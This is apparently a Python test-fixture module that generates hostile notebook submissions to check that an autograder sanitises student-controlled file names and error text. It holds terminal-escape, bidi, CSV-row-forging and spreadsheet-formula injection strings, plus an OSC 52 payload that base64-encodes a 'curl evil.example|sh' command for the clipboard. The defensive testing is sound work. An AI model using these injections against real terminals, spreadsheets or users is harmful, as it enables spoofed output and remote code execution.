"""Submissions whose *text* is the attack: file names and messages aimed at the grader's outputs.

    from support.hostile_names import write_hostile_batch
    expected = write_hostile_batch(folder)  # {file name (bytes): what it attacks}

Each attack targets what the grader writes (the table, the CSV, JSON, Gradescope files):
terminal escapes (CSI, OSC 52 clipboard, OSC 8 link), C1 controls, bidi overrides, line
separators, a lone surrogate, a CR that would forge a CSV row, spreadsheet formulas, file
names that are not UTF-8 and names that collide once made safe for a file system.

A notebook named by HOSTILE_FILE_NAMES is a correct submission (18/18) under a hostile name.
A notebook of HOSTILE_MESSAGES answers zeros and random correctly, and in He puts the text
where the grader quotes it:
  "definition" -- a class body raises it while the cells run: the exercise is an error and
                  the text reaches the CSV's reason column;
  "call"       -- the function raises it: a failed case, the text reaches the feedback;
  "type"       -- the function raises an exception whose *type name* is the text;
  "key"        -- the function returns a dict with the text as an extra key.
"""

import os
from pathlib import Path

from . import SOLUTIONS, replace_solution_cells, write_answers, write_solved_release

HE = "initialize_parameters_he"
FULL_MARKS = 18

# Text a student controls, aimed at a terminal, a spreadsheet or a reader.
HOSTILE_TEXTS = {
    "csi_clear_screen": "\x1b[2J\x1b[H total 18/18 graded",
    "osc52_clipboard": "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07",
    "osc8_link": "\x1b]8;;https://evil.example/\x1b\\click here\x1b]8;;\x1b\\",
    "c1_csi": "\x9b2J\x9b1;1H 18/18",
    "bidi_override": "\u202e81/81 \u2066hidden\u2069",
    "lone_surrogate": "bad \udc80 text \ud800",
    "line_separator": "one\u2028two\u2029three",
    "cr_forged_row": "x\r\nforged,18,18,5,6,7,graded,",
    "nul_and_del": "a\x00b\x7fc\x08d",
}
PLACES = ("definition", "call", "type", "key")

# File names (bytes: a file name need not be UTF-8) of correct notebooks. Several collide
# once made into a report file name: ana+b/ana_b, bob/bob./bob../Bob, the two cafés.
HOSTILE_FILE_NAMES = [
    b"ana+b.ipynb",
    b"ana_b.ipynb",
    b"bob.ipynb",
    b"bob..ipynb",
    b"bob...ipynb",
    b"Bob.ipynb",
    b"caf\xe9.ipynb",  # Latin-1, not UTF-8
    b"caf\\xe9.ipynb",  # a backslash: the escaped form of the name above, literally
    b"caf\xc3\xa9.ipynb",  # UTF-8
    b"\x1b[2J\x1b[Hclear.ipynb",
    b"\x1b]52;c;Y2xpcA==\x07clip.ipynb",
    b"line\nbreak.ipynb",
    b"cr\r,forged,18.ipynb",
    b"\xe2\x80\xaegnp.exe.ipynb",  # U+202E RIGHT-TO-LEFT OVERRIDE
    b"=1+2.ipynb",  # a spreadsheet formula
    b"@SUM(A1).ipynb",
    b"-2+3.ipynb",
    b"..ipynb",
    b"...ipynb",
    b" .ipynb",
    b"a" * 240 + b".ipynb",
]


def solved_release(scratch):
    """A correct notebook (bytes), built once per scratch folder."""
    return write_solved_release(Path(scratch) / "solved").read_bytes()


CORRECT_HE = f"""import numpy as np

def {HE}(layers_dims):
    np.random.seed(3)
    parameters = {{}}
    for l in range(1, len(layers_dims)):
        scale = np.sqrt(2. / layers_dims[l-1])
        parameters['W' + str(l)] = np.random.randn(layers_dims[l], layers_dims[l-1]) * scale
        parameters['b' + str(l)] = np.zeros((layers_dims[l], 1))
    return parameters
"""


def he_cell(text, place):
    """The He solution cell that puts `text` where `place` says (see the module docstring)."""
    literal = repr(text)  # an ASCII-safe Python literal of any str, surrogates included
    if place == "definition":
        return f"{CORRECT_HE}\n\nclass Trap:\n    raise ValueError({literal})\n"
    if place == "key":
        return CORRECT_HE.replace(
            "    return parameters", f"    parameters[{literal}] = 0\n    return parameters"
        )
    raised = {
        "call": f"ValueError({literal})",
        "type": f"type({literal}, (Exception,), {{}})('typed')",
    }
    return f"import numpy as np\n\ndef {HE}(layers_dims):\n    raise {raised[place]}\n"


def message_notebook(dest, text, place):
    """A notebook (path) with zeros and random right and `text` in He at `place`."""
    answers = {key: value for key, value in SOLUTIONS.items() if key != HE}
    notebook = write_answers(dest, answers)
    return replace_solution_cells(notebook, {HE: he_cell(text, place)})


def write_hostile_batch(folder, scratch=None, places=PLACES):
    """Write every attack of this module as a flat folder of notebooks.

    Returns {file name (bytes): (kind, detail)} where kind is 'name' (a correct notebook
    under a hostile name; detail is the name) or a place of PLACES (detail is the attack's
    key in HOSTILE_TEXTS). Correct notebooks named correct_<n>.ipynb sit between them.
    """
    folder = Path(folder)
    scratch = Path(scratch or folder.parent / "hostile-scratch")
    folder.mkdir(parents=True, exist_ok=True)
    correct = solved_release(scratch)
    written = {}
    for number, name in enumerate(HOSTILE_FILE_NAMES):
        write_bytes(folder, name, correct)
        written[name] = ("name", name)
        write_bytes(folder, f"correct_{number:02d}.ipynb".encode(), correct)
        written[f"correct_{number:02d}.ipynb".encode()] = ("name", "correct")
    for attack, text in HOSTILE_TEXTS.items():
        for place in places:
            name = f"{attack}_{place}.ipynb".encode()
            notebook = message_notebook(scratch / f"{attack}_{place}", text, place)
            write_bytes(folder, name, notebook.read_bytes())
            written[name] = (place, attack)
    return written


def write_bytes(folder, name, data):
    """Write data to folder/name, name being bytes (any file name the kernel accepts)."""
    with open(os.path.join(os.fsencode(folder), name), "wb") as handle:
        handle.write(data)
